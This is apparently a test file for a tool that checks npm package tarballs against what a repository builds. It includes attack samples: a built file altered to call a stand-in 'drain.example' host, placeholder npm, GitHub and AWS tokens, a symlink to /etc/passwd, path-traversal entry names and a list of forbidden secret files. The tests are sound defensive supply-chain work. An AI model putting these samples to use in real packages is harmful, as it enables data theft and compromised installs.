import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { afterAll, describe, expect, test } from 'vitest'
import { readTarball } from './readTarball.mjs'
import { contentFaults, tarballFaults } from './tarballFaults.mjs'

const place = mkdtempSync(join(tmpdir(), 'tarballs-'))
afterAll(() => rmSync(place, { recursive: true, force: true }))

const sound = {
  'package.json': '{"name":"a"}',
  'README.md': '# a',
  LICENSE: 'MIT',
  THIRD_PARTY_NOTICES: 'none',
  'dist/index.js': 'export const a = 1',
}
/** Others cannot be told to write what no honest tarball has. */
const isGnu = /GNU/.test(String(execFileSync('tar', ['--version'])))
/** From `dist` to the root of a repository. */
const up = '../'.repeat(3)
let count = 0

/** A real tarball of these files, read back; `change` does to the folder what files cannot say, `words` are more for `tar`. */
function packed(files, { programs = [], change = () => {}, words = [] } = {}) {
  count += 1
  const folder = join(place, String(count))
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, 'package', path)), { recursive: true })
    writeFileSync(join(folder, 'package', path), text)
  }
  for (const path of programs) chmodSync(join(folder, 'package', path), 0o755)
  change(join(folder, 'package'))
  execFileSync('tar', ['-czf', `${folder}.tgz`, '-C', folder, ...words, 'package'])
  return readTarball(`${folder}.tgz`)
}
const filesOf = (...parameters) => packed(...parameters).files
const odd = (files) => contentFaults('a', filesOf({ ...sound, ...files }))

test('C-16 a tarball with a changed, an added, a missing or a newly executable file is not what the repository builds', () => {
  const built = filesOf(sound)
  expect(tarballFaults('a', filesOf(sound), built)).toEqual([])
  const drained = { ...sound, 'dist/index.js': 'export const a = 1; fetch("https://drain.example")' }
  expect(tarballFaults('a', filesOf(drained), built)).toEqual([
    'a: dist/index.js differs from what this repository builds',
  ])
  const { LICENSE: _, ...less } = sound
  expect(tarballFaults('a', filesOf({ ...less, 'dist/extra.js': '' }), built)).toEqual([
    'a: LICENSE is built here, but not in the tarball',
    'a: dist/extra.js is in the tarball, but this repository does not build it',
  ])
  expect(tarballFaults('a', filesOf(sound, { programs: ['dist/index.js'] }), built)).toHaveLength(1)
})

describe('C-16 what a tarball may hold', () => {
  test('is what packages are made of; the longest paths too', () => {
    const long = `src/${'folder/'.repeat(20)}${'a'.repeat(90)}.ts`
    const more = { [long]: '', 'src/View.tsx': '', 'src/a.css': '', 'dist/a-b_c.d.ts': '', 'dist/a.css': '' }
    expect(odd(more)).toEqual([])
    for (const format of ['ustar', 'pax', ...(isGnu ? ['gnu'] : [])])
      expect([...filesOf({ [long]: '' }, { words: [`--format=${format}`] }).keys()]).toEqual([long])
    const program = { 'package.json': '{"name":"a","bin":"./dist/main.js"}', 'dist/main.js': '', 'icons/a.svg': '' }
    const whole = filesOf({ ...sound, ...program, 'dist/data/wallets.json': '[]' }, { programs: ['dist/main.js'] })
    expect(contentFaults('a', whole)).toEqual([])
  })

  test('is at least this', () => {
    const { 'README.md': _, 'dist/index.js': __, ...less } = sound
    expect(contentFaults('a', filesOf(less))).toEqual(['a: README.md is missing', 'a: nothing is built'])
  })

  test.each([
    '.env',
    '.npmrc',
    'dist/.env.production',
    'src/.git/config',
    '.github/workflows/ci.yml',
    'node_modules/b/index.js',
    'dist/node_modules/b/index.json',
    'src/a.test.ts',
    'src/a.test-d.ts',
    'src/fake.test.support.ts',
    'dist/a.spec.js',
    'src/a.e2e.ts',
    'key.pem',
    'dist/id_rsa',
    'dist/server.key',
    'dist/index.cjs',
    'dist/native.node',
    'dist/a.wasm',
    'dist/index.js.bak',
    'src/data.json',
    'icons/a.svg',
    'binding.gyp',
    'npm-shrinkwrap.json',
    'a.tgz',
    'debug.log',
    'dist/a b.js',
    'dist/-rf.js',
  ])('is not %s', (file) => {
    expect(odd({ [file]: '' })).toEqual([`a: ${file} has no place in a package`])
  })

  test.each([
    ['a private key', '-----BEGIN EC PRIVATE KEY-----'],
    ['a token of npm', `const t = 'npm_${'a'.repeat(36)}'`],
    ['a token of npm', '//registry.npmjs.org/:_authToken=x'],
    ['a token of GitHub', `ghp_${'a'.repeat(36)}`],
    ['a key of AWS', `AKIA${'A'.repeat(16)}`],
  ])('is no file with %s in it', (what, text) => {
    expect(odd({ 'dist/b.js': text })).toEqual([`a: dist/b.js holds ${what}`])
  })

  test.each([
    `${up}.env`,
    `${up}node_modules/b/index.js`,
    '/home/dev/secret.ts',
    '../src/a.test.ts',
    `${up}packages/protocol/src/a.ts`,
    'file:///home/dev/secret.ts',
  ])('is no map of %s, whose text it would bring', (source) => {
    const map = (one) => JSON.stringify({ version: 3, sources: [one], sourcesContent: ['x'], mappings: '' })
    expect(odd({ 'dist/index.js.map': map('../src/index.ts') })).toEqual([])
    expect(odd({ 'dist/index.js.map': map(source) })).toEqual([expect.stringMatching(/holds a source from outside/)])
  })

  test('is no script at install and no executable that is no program', () => {
    expect(odd({ 'package.json': '{"name":"a","scripts":{"postinstall":"node dist/index.js"}}' })).toEqual([
      "a: package.json has the script 'postinstall'",
    ])
    expect(contentFaults('a', filesOf(sound, { programs: ['dist/index.js'] }))).toEqual([
      'a: dist/index.js is executable, but no program',
    ])
  })
})

describe.skipIf(!isGnu)('C-16 a hostile tarball', () => {
  test('with a link in it is told, and nothing outside is read', () => {
    const { files, faults } = packed(sound, {
      change: (folder) => symlinkSync('/etc/passwd', join(folder, 'dist/b.js')),
    })
    expect(faults).toEqual(['package/dist/b.js is neither a file nor a folder'])
    expect(files.has('dist/b.js')).toBe(false)
  })

  test.each([
    ['package/../../b.js', 's,package/dist/index.js,package/../../b.js,'],
    ['/b.js', 's,package/dist/index.js,/b.js,'],
    ['other/b.js', 's,package/dist/index.js,other/b.js,'],
  ])('that leaves its folder as %s is told', (name, transform) => {
    const { files, faults } = packed(sound, { words: ['-P', `--transform=${transform}`] })
    expect(faults).toEqual([`"${name}" does not stay in the folder of the package`])
    expect([...files.keys()]).not.toContain('b.js')
  })

  test('that goes on behind its end is told', () => {
    const [plain, hidden] = [join(place, 'plain.tgz'), join(place, 'hidden.tgz')]
    packed(sound)
    const tar = gunzipSync(readFileSync(join(place, `${count}.tgz`)))
    writeFileSync(plain, gzipSync(tar))
    expect(readTarball(plain).faults).toEqual([])
    writeFileSync(hidden, gzipSync(Buffer.concat([tar, tar])))
    expect(readTarball(hidden).faults).toEqual(['something stands behind the end'])
  })

  test('with one name twice, by its letters or but for their case, is told: unpacked, the later one wins', () => {
    expect(packed(sound, { words: ['--hard-dereference', 'package/dist/index.js'] }).faults).toEqual([
      'dist/index.js is there twice',
    ])
    expect(packed({ ...sound, 'dist/Index.js': '' }).faults).toEqual([
      expect.stringMatching(/^dist\/.ndex\.js is there twice$/),
    ])
  })
})
